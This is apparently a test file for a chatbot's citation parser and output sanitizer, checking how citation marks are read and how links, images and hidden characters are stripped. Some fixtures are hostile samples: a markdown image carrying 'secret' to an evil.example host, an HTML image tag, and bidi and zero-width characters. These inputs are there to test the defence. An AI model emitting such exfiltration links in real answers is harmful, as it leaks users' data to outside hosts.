from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chatbot.answering.readable import readable_text
from chatbot.answering.statements import statements_of


def _said(text: str) -> list[tuple[str, tuple[int, ...]]]:
    return [(one.text, one.cites) for one in statements_of(text)]


def test_marks_belong_to_the_sentence_they_stand_in_or_behind() -> None:
    assert _said("The bridge opened in 1931 [1]. It cost 3 francs. [2][3] It fell in 1944 [4].") == [
        ("The bridge opened in 1931.", (1,)),
        ("It cost 3 francs.", (2, 3)),
        ("It fell in 1944.", (4,)),
    ]


@pytest.mark.parametrize(
    "mark", ["[2]", "[ 2 ]", "[passage 2]", "[Source 2]", "【2】", "[^2]", "[[2]]", "[no. 2]"]
)
def test_marks_are_read_however_models_write_them(mark: str) -> None:
    assert _said(f"The bridge opened in 1931 {mark}.") == [("The bridge opened in 1931.", (2,))]


@pytest.mark.parametrize("mark", ["[1-3]", "[1–3]", "[1, 2, 3]", "[1][2] [3]"])
def test_a_mark_may_name_a_range(mark: str) -> None:
    assert _said(f"It opened in 1931 {mark}.") == [("It opened in 1931.", (1, 2, 3))]


def test_marks_may_stand_before_their_sentences() -> None:
    assert _said("[1] It opened in 1931. [2] It fell in 1944.") == [
        ("It opened in 1931.", (1,)),
        ("It fell in 1944.", (2,)),
    ]


def test_a_bare_no_is_part_of_what_follows() -> None:
    assert _said("No. He refused it [2].") == [("No. He refused it.", (2,))]


def test_a_heading_that_cites_is_a_statement() -> None:
    assert _said("# It opened in 1931 [1]") == [("It opened in 1931", (1,))]


def test_no_link_can_be_made_of_a_mark_and_what_follows_it() -> None:
    (one,) = statements_of("It opened [1] (evil.example/x) in 1931.")
    assert "](" not in one.with_marks(lambda number: f"[{number}]", str)


@pytest.mark.parametrize(
    "hostile",
    [" ", "[", "[a](", "[a][", "(a ", "[1", "*", "<", "<think>", "NOT_IN_DOCUMENTS ", "¹", "- ", "\n"],
)
def test_hostile_text_is_read_to_its_end(hostile: str) -> None:
    text = readable_text(hostile * (20_000 // len(hostile)))
    assert len(statements_of(text)) <= len(text)


def test_one_mark_may_name_several_passages() -> None:
    assert _said("It opened in 1931 [1, 3; 4].") == [("It opened in 1931.", (1, 3, 4))]


def test_a_sentence_without_marks_takes_those_of_its_neighbour() -> None:
    assert [cites for _, cites in _said("One stands here. Two stands here [2]. Three stands here.")] == [
        (2,),
        (2,),
        (2,),
    ]


def test_lines_do_not_share_marks() -> None:
    assert _said("One stands here.\nTwo stands here [2].") == [
        ("One stands here.", ()),
        ("Two stands here.", (2,)),
    ]


def test_items_of_lists_keep_their_bullets_and_headings_are_no_statements() -> None:
    statements = statements_of(
        "## Answer\n\nThe documents say:\n- One thing [1]\n2) Another thing [2]\n---\n**So:**"
    )
    assert [(one.lead, one.text, one.cites) for one in statements] == [
        ("- ", "One thing", (1,)),
        ("2. ", "Another thing", (2,)),
    ]


def test_thoughts_are_not_for_reading() -> None:
    assert readable_text("<think>It may be 12 [1].</think>It is 13 [2].") == "It is 13 [2]."
    assert readable_text("<think>It may be 12") == ""
    assert readable_text("It may be 12.</think>It is 13.") == "It is 13."


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("See ![the map](http://evil.example/leak?q=secret).", "See the map."),
        ("See [the site](http://evil.example/a_(b) 'title') now.", "See the site now."),
        ("See [the site][ref] now.\n[ref]: http://evil.example/", "See the site now."),
        ('Hello <img src="http://evil.example/x">there.', "Hello there."),
        ("[![picture](http://a.example/b)](http://c.example/d)", "picture"),
        ("A \u202eright\u200b-to-left\U000e0041 word.", "A right-to-left word."),
        ("It was ~~not~~ so.", "It was not so."),
        ("About ~600 people.", "About ≈600 people."),
        ("See [[1]](evil.example/x.png) there.", "See [1] there."),
        ("See [1](http://evil.example/) there.", "See [1] there."),
        ("On \uff12\uff14 May \u2460\u2468\u2462\u2460¹.", "On 24 May 1931 [1]."),
        ("Half \ud83d of it.", "Half \ufffd of it."),
        ("Of \\[1\\] it.", "Of [1] it."),
    ],
)
def test_links_pictures_and_elements_leave_their_words_only(written: str, read: str) -> None:
    assert readable_text(written) == read


def test_marks_are_put_anew_and_the_words_escaped() -> None:
    (one,) = statements_of("It *was* 24 [1] or **25** August [2, 9].")
    marked = one.with_marks(lambda number: f"[{number + 10}]" if number < 5 else "", str.upper)
    assert marked == "IT WAS 24 [11] OR 25 AUGUST [12]."


@given(st.text(alphabet="ab .![](){}<>*~[1]2,\n-#", max_size=120))
def test_any_text_is_taken_apart_without_losing_its_order(text: str) -> None:
    read = readable_text(text)
    assert readable_text(read).count("](") <= read.count("](")
    statements = statements_of(read)
    position = 0
    for one in statements:
        position = read.index(one.source, position) + len(one.source)
        assert one.text.strip()
